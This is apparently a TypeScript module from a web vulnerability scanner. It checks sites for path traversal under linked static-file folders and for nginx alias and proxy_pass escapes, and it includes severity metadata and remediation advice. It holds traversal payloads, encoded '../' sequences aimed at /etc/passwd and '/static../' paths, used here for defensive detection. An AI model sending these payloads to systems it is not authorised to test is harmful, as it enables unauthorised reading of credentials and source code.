/** Folders of static files that the start page uses, and files outside of them. */
import { randomBytes } from 'node:crypto'
import { callsOf } from '#native/web/api-answers.ts'
import { checkInfo, type NativeCheck, type NativeContext, type Proof } from '#native/native-check.ts'
import { folderOf, pathHere, requestWeb, webProof, type WebResponse } from '#native/web/request.ts'
import { readPages } from '#native/web/site-pages.ts'
import { readSite } from '#native/web/site.ts'

export const folderTraversal = checkInfo({
  id: 'path-traversal-linked-folder',
  name: 'Path traversal in a directory of static files',
  severity: 'high',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  score: 7.5,
  summary:
    'The server does not sanitize `..` or absolute paths below a directory of static files that the home page uses. The check read /etc/passwd this way.',
  impact: 'An attacker can read any file that the server process can read, including keys and passwords.',
  remediation:
    'Update the web server or framework. In your own code, resolve each path and reject it if it is outside the directory.',
  reference: 'https://cwe.mitre.org/data/definitions/22.html',
  tags: 'lfi traversal files',
  verifiedOn: 'litestar-traversal',
})
export const folderAlias = checkInfo({
  id: 'alias-traversal-linked-folder',
  name: 'Path traversal via a location without a trailing slash (nginx)',
  severity: 'high',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  score: 7.5,
  summary:
    'An nginx `location` without a trailing slash is mapped to an `alias` or `proxy_pass` with one, so a path such as /static../ reaches the parent directory. The check read a file of the page or the root of the API this way.',
  impact:
    "An attacker can read the contents of the parent directory, often the application's source code, settings, or database, or call internal operations of its API.",
  remediation:
    'End both the `location` and its `alias` or `proxy_pass` in nginx with a slash: `location /static/ { alias /srv/static/; }`.',
  reference: 'https://cwe.mitre.org/data/definitions/22.html',
  tags: 'lfi nginx alias',
  verifiedOn: 'nginx-alias-linked nginx-api-prefix',
})

const foldersOfPageMax = 3
const foldersMax = 5
const linksMax = 60
const foldersMs = 5000
const up = 12
const passwords = /^root:[^:\n]{0,200}:0:0:[^\n]{0,300}/m
const climbs = ['../', '%2e%2e/', '..%2f', '%252e%252e/', '..%252f'].map((step) => `${step.repeat(up)}etc/passwd`)
const attempts = [...climbs, '/etc/passwd']

export const webFolders: NativeCheck = {
  checks: [folderTraversal, folderAlias],
  isPerFolder: true,
  appliesTo: ({ protocol }) => protocol === 'http',
  async run(context) {
    const site = await readSite(context)
    if (!site) return {}
    const { pages } = await readPages(context, site)
    const linked = pages.flatMap(({ body, path }) => filesOf(body, path))
    const files = oneOfEachFolder(linked).slice(0, foldersMax)
    let traversal: Proof | null = null
    let alias: Proof | null = null
    const stopAt = performance.now() + foldersMs
    for (const file of files) {
      // A slow server would otherwise take the time of all other checks.
      if (performance.now() > stopAt) break
      traversal ??= await proveFileTraversal(context, folderOf(file))
      alias ??= await readsParent(context, file)
    }
    alias ??= await leavesPrefix(context)
    const isComplete = performance.now() <= stopAt
    return {
      ...(traversal || isComplete ? { [folderTraversal.id]: traversal } : {}),
      ...(alias || isComplete ? { [folderAlias.id]: alias } : {}),
    }
  },
}

/** One file of each of the first folders whose files a page uses. */
export function filesOf(html: string, base: string): readonly string[] {
  const links = html
    .matchAll(
      /<(?:a|link|script|img|source|embed)\b[^<>]{0,300}?\b(?:href|src)\s{0,9}=\s{0,9}["']?([^"'\s<>]{1,300})/gi,
    )
    .take(linksMax)
  const paths = [...links].flatMap(([, link = '']) => pathHere(link, base) ?? [])
  const files = paths.filter((path) => /^\/(?:[\w.~-]{1,60}\/){1,4}[\w.~-]{1,80}\.\w{1,8}$/.test(path))
  return oneOfEachFolder(files).slice(0, foldersOfPageMax)
}

function oneOfEachFolder(files: readonly string[]): readonly string[] {
  return [...new Map(files.map((path) => [folderOf(path), path])).values()]
}

async function proveFileTraversal(context: NativeContext, folder: string): Promise<Proof | null> {
  for (const attempt of attempts) {
    const target = `${folder}${attempt}`
    const response = await requestWeb(context, { target })
    const [line] = response?.status === 200 ? (passwords.exec(response.body) ?? []) : []
    if (!response || line === undefined) continue
    const control = await requestWeb(context, { target: `${target}-${randomBytes(6).toString('hex')}` })
    if (control && !passwords.test(control.body)) return { ...webProof(response, [line]), path: target }
  }
  return null
}

/**
 * Reads the same file through the parent folder, provided that the folder has the same name on the server. Servers other
 * than nginx also resolve such a path, but reject files outside the folder.
 */
async function readsParent(context: NativeContext, file: string): Promise<Proof | null> {
  const [, top = '', rest = ''] = /^\/([^/]{1,60})\/(.{1,300})$/.exec(file) ?? []
  const target = `/${top}../${top}/${rest}`
  const found = await requestWeb(context, { target })
  if (found?.status !== 200 || found.body === '' || !isNginx(found)) return null
  const original = await requestWeb(context, { target: file })
  const control = await requestWeb(context, { target: `/${top}../${randomBytes(6).toString('hex')}/${rest}` })
  const isSame = (other: WebResponse | undefined) => other?.status === 200 && other.body === found.body
  return isSame(original) && !isSame(control) ? { ...webProof(found, [target]), path: target } : null
}

const topsMax = 2
const prefixes = ['v1', 'api', 'api/v1', 'v2', 'app', 'public']

/**
 * Reads the root of an API through the parent of the path to which nginx forwards, such as `/api../v1/` for `/api/`.
 */
async function leavesPrefix(context: NativeContext): Promise<Proof | null> {
  const tops = (await callsOf(context)).flatMap(({ path }) => /^\/[\w-]{1,40}(?=\/)/.exec(path)?.[0] ?? [])
  for (const top of [...new Set(tops)].slice(0, topsMax)) {
    const page = await requestWeb(context, { target: `${top}/`, headers: { Accept: 'application/json' } })
    if (page?.status !== 200 || page.body === '' || !isNginx(page)) continue
    for (const prefix of prefixes) {
      const target = `${top}../${prefix}/`
      const found = await requestWeb(context, { target, headers: { Accept: 'application/json' } })
      if (found?.status !== 200 || found.body !== page.body) continue
      const control = await requestWeb(context, { target: `${top}../${randomBytes(6).toString('hex')}/` })
      if (control && control.body !== found.body) return { ...webProof(found, [target]), path: target }
    }
  }
  return null
}

function isNginx({ headers }: WebResponse): boolean {
  return headers.some(
    ([name, value]) => name.toLowerCase() === 'server' && /^(?:nginx|openresty|tengine)\b/i.test(value),
  )
}
